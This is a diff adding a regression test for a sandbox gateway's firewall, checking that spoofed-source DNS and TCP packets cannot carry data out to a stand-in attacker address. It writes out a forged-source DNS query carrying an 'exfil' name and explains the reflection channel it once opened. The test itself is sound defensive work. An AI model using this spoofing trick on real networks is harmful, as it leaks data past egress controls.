@@ -1,0 +1,113 @@
+// ATTACK5: a sandbox that forges its source address. The gateway answers whoever a packet claims to come
+// from, and the firewall let every reply of an accepted connection out (RELATED,ESTABLISHED came before
+// everything else in OUTPUT), whatever the interface: a DNS query to the gateway's resolver sent from a
+// forged address made the gateway send its answer — carrying the name the sandbox chose — to that address,
+// anywhere (the internet, the LAN, the metadata server), a one-way channel past the allowlist. Now a packet
+// of a connection someone opened toward the gateway (conntrack reply direction) leaves on the sandbox's
+// interface only (firewall/rules.ts, `out-reply-escape`). Red before the fix: 2 (both forged-source DNS probes).
+// Namespaces as in test/topology.test.ts; every address is a documentation or test address inside them.
+import t from 'tap';
+import type { RunningGateway } from './harness/world.js';
+import { startGatewayIn } from './harness/world.js';
+import { dig, startTopology, writeAllowlist, GATEWAY, LAN, UPSTREAM, type Topology } from './harness/topology.js';
+import type { Netns } from './harness/netns.js';
+
+/** The attacker's own server on the internet (a documentation address), and a port it listens on. */
+const ATTACKER = '203.0.113.99';
+const PORT = 40053;
+
+let topo: Topology;
+let gw: RunningGateway | undefined;
+
+t.before(async () => {
+  topo = await startTopology();
+  const allowlistPath = writeAllowlist(topo.dir, ['allowed.test']);
+  await topo.internet.addLoopbackAddress(`${ATTACKER}/32`);
+  // The sandbox may hold any address it likes on its own side: that is all forging a source takes.
+  await topo.sandbox.addLoopbackAddress(`${ATTACKER}/32`);
+  await topo.sandbox.addLoopbackAddress(`${LAN}/32`);
+  gw = await startGatewayIn(topo.gateway, topo.dir, [
+    '--no-defaults',
+    '--listen',
+    GATEWAY,
+    '--dns-port',
+    '53',
+    '--proxy-port',
+    '3128',
+    '--upstream',
+    UPSTREAM,
+    '--allowlist',
+    allowlistPath,
+  ]);
+});
+t.teardown(async () => {
+  await gw?.stop().catch(() => undefined);
+  await topo?.close();
+});
+
+/** Listen for UDP on ip:port in a namespace; resolves with what arrived (hex) or '' after waitMs. */
+function udpListen(ns: Netns, ip: string, port: number, waitMs: number): { ready: Promise<void>; got: Promise<string> } {
+  const script = `const s = require('node:dgram').createSocket('udp4');
+    s.on('message', (m) => { console.log('got ' + m.toString('latin1').replace(/[^ -~]/g, '.')); process.exit(0); });
+    s.bind(${port}, ${JSON.stringify(ip)}, () => console.log('listening'));
+    setTimeout(() => { console.log('none'); process.exit(0); }, ${waitMs});`;
+  const p = ns.spawn(process.execPath, ['-e', script]);
+  const ready = p.waitFor(/listening/, 10_000).then(() => undefined);
+  const got = p.waitFor(/^(got .*|none)$/m, waitMs + 10_000).then((line) => (line.startsWith('got ') ? line.slice(4) : ''));
+  return { ready, got };
+}
+
+/** One DNS query for `name` to the gateway's resolver, sent from `from`:PORT (an address the sandbox took). */
+async function spoofedQuery(from: string, name: string): Promise<void> {
+  const labels = name.split('.').map((l) => `${String.fromCharCode(l.length)}${l}`);
+  const q = `\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00${labels.join('')}\x00\x00\x01\x00\x01`;
+  const script = `const s = require('node:dgram').createSocket('udp4');
+    s.bind(${PORT}, ${JSON.stringify(from)}, () => s.send(Buffer.from(${JSON.stringify(q)}, 'latin1'), 53, ${JSON.stringify(GATEWAY)}, () => setTimeout(() => process.exit(0), 200)));`;
+  await topo.sandbox.run(process.execPath, ['-e', script]);
+}
+
+t.test('held: the resolver still answers the sandbox at its own address', async (t) => {
+  t.equal((await dig(topo.sandbox, GATEWAY, 'allowed.test')).status, 'NOERROR');
+  t.equal((await dig(topo.sandbox, GATEWAY, 'nope.test')).status, 'NXDOMAIN');
+});
+
+for (const [what, target] of [
+  ["the attacker's server on the internet", ATTACKER],
+  ['a LAN host', LAN],
+] as const) {
+  t.test(`a DNS query from a forged source: no answer reaches ${what}`, async (t) => {
+    const l = udpListen(topo.internet, target, PORT, 2500);
+    await l.ready;
+    await spoofedQuery(target, 'exfil-c2VjcmV0.nope.test');
+    const got = await l.got;
+    t.equal(got, '', `the gateway's answer (${JSON.stringify(got)}) never leaves toward ${target}`);
+  });
+}
+
+t.test('held: the upstream still answers the gateway (replies to its own queries come in on the outside)', async (t) => {
+  t.same((await dig(topo.sandbox, GATEWAY, 'allowed.test')).answers.length, 1);
+});
+
+t.test('a TCP connection to the proxy from a forged source: its SYN-ACK is dropped, never sent out the other side', async (t) => {
+  const before = Math.max(
+    0,
+    ...gw!
+      .audit()
+      .filter((e) => e.event === 'firewall' && e.action === 'drop' && e.rule === 'out-reply-escape')
+      .map((e) => e.total_packets as number),
+  );
+  const script = `const s = require('node:net').connect({ host: ${JSON.stringify(GATEWAY)}, port: 3128, localAddress: ${JSON.stringify(ATTACKER)} });
+    s.setTimeout(1500, () => { console.log('timeout'); process.exit(0); });
+    s.on('connect', () => { console.log('connected'); process.exit(0); });
+    s.on('error', (e) => { console.log(e.code); process.exit(0); });`;
+  const r = await topo.sandbox.run(process.execPath, ['-e', script], { reject: false });
+  t.equal(String(r.stdout).trim(), 'timeout', 'no handshake completes (the answer would go to the forged address)');
+  t.match(
+    await gw!.waitForAudit(
+      (e) => e.event === 'firewall' && e.action === 'drop' && e.rule === 'out-reply-escape' && (e.total_packets as number) > before,
+      8000,
+    ),
+    { chain: 'OUTPUT', target: 'DROP' },
+    'the firewall says it dropped the reply',
+  );
+});
